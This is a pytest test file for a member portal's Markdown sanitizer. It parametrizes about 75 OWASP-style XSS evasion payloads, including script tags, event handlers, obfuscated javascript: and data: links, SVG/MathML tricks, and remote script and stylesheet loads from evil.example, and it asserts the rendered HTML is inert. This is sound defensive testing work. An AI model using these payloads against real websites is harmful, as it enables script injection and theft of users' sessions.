"""The sanitizer: members' Markdown becomes HTML with nothing that can run or restyle the page."""

import html
import re
from html.parser import HTMLParser

import pytest

from portal.sanitizer import ALLOWED_TAGS, plain_text, render_markdown

# OWASP filter-evasion style payloads, as HTML and as Markdown.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=https://evil.example/xss.js></script>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" ONMOUSEOVER=alert(1)>x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1));">x</div>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<base href="https://evil.example/">',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    '<a href="https://example.org"\x00 onclick="alert(1)">x</a>',
    '<a title=\'"><script>alert(1)</script>\' href="https://example.org">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click](https://example.org "title" onclick="alert(1)")',
    '[click](https://example.org"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](https://example.org/x.png" onerror="alert(1))',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click][ref]\n\n[ref]: &#x6A;avascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "www.example.org/<script>alert(1)</script>",
    "javascript:alert(1)",
]

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
_CONTROL_AND_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see, after entities, whitespace and control characters."""
    cleaned = _CONTROL_AND_SPACE.sub("", html.unescape(value)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


def assert_inert(markup: str) -> None:
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    for tag, attrs in collector.elements:
        assert tag in ALLOWED_TAGS, (tag, markup)
        for name, value in attrs:
            assert not name.startswith("on"), (name, markup)
            assert name != "style", markup
            if name in URL_ATTRIBUTES:
                assert url_scheme(value or "") in SAFE_SCHEMES | {None}, (value, markup)


def test_payload_list_is_long_enough():
    assert len(XSS_PAYLOADS) >= 40


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_comes_out_inert(payload):
    assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_inside_markdown_comes_out_inert(payload):
    assert_inert(render_markdown(f"# Titre\n\nAvant {payload} après\n\n- {payload}\n"))


def test_the_checker_catches_a_javascript_link():
    """The assertion above must be able to fail."""
    with pytest.raises(AssertionError):
        assert_inert('<a href="jav&#x09;ascript:alert(1)">x</a>')
    with pytest.raises(AssertionError):
        assert_inert('<p onclick="x">y</p>')


def test_paragraphs_and_emphasis_survive():
    assert render_markdown("Une *mutuelle* **solide**.\n\nDeuxième.") == (
        "<p>Une <em>mutuelle</em> <strong>solide</strong>.</p>\n<p>Deuxième.</p>"
    )


def test_lists_survive():
    output = render_markdown("- cotisations\n- prestations\n\n1. un\n2. deux")
    assert "<ul>\n<li>cotisations</li>\n<li>prestations</li>\n</ul>" in output
    assert "<ol>\n<li>un</li>\n<li>deux</li>\n</ol>" in output


def test_quotes_and_code_survive():
    output = render_markdown("> Le BIT appuie les mutuelles.\n\n`MAS Gestion`\n\n    code = 1")
    assert "<blockquote>\n<p>Le BIT appuie les mutuelles.</p>\n</blockquote>" in output
    assert "<code>MAS Gestion</code>" in output
    assert "<pre><code>code = 1\n</code></pre>" in output


def test_tables_survive():
    output = render_markdown("| Pays | Mutuelles |\n|---|---:|\n| Sénégal | 120 |")
    assert "<table>" in output
    assert "<th>Pays</th>" in output
    assert '<td align="right">120</td>' in output


def links(markup: str) -> list[dict[str, str | None]]:
    collector = _Collector()
    collector.feed(markup)
    return [dict(attrs) for tag, attrs in collector.elements if tag == "a"]


def test_links_survive_with_rel_nofollow_ugc_noopener():
    output = render_markdown('[Le BIT](https://www.ilo.org/ "OIT")')
    assert links(output) == [
        {"href": "https://www.ilo.org/", "title": "OIT", "rel": "nofollow ugc noopener"}
    ]
    assert ">Le BIT</a>" in output


def test_a_members_own_rel_is_replaced():
    output = render_markdown('<a href="https://example.org" rel="opener">x</a>')
    assert links(output) == [{"href": "https://example.org", "rel": "nofollow ugc noopener"}]


def test_bare_urls_become_links_with_rel():
    output = render_markdown("Voir https://www.ilo.org/ pour plus.")
    assert '<a href="https://www.ilo.org/" rel="nofollow ugc noopener">' in output


def test_mailto_links_survive():
    assert 'href="mailto:step@example.org"' in render_markdown("[écrire](mailto:step@example.org)")


def test_headings_are_shifted_to_h3_and_h4():
    output = render_markdown("# Un\n\n## Deux\n\n### Trois\n\n###### Six")
    assert output == "<h3>Un</h3>\n<h4>Deux</h4>\n<h4>Trois</h4>\n<h4>Six</h4>"


def test_images_are_removed():
    assert "<img" not in render_markdown("![logo](https://example.org/logo.png)")


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_plain_text_strips_every_tag():
    text = plain_text("# Titre\n\nUne *mutuelle* & [un lien](https://example.org) <b>gras</b>")
    assert " ".join(text.split()) == "Titre Une mutuelle & un lien gras"


def test_plain_text_of_a_script_is_inert_text():
    assert "<" not in plain_text("<script>alert(1)</script>").replace("&lt;", "")
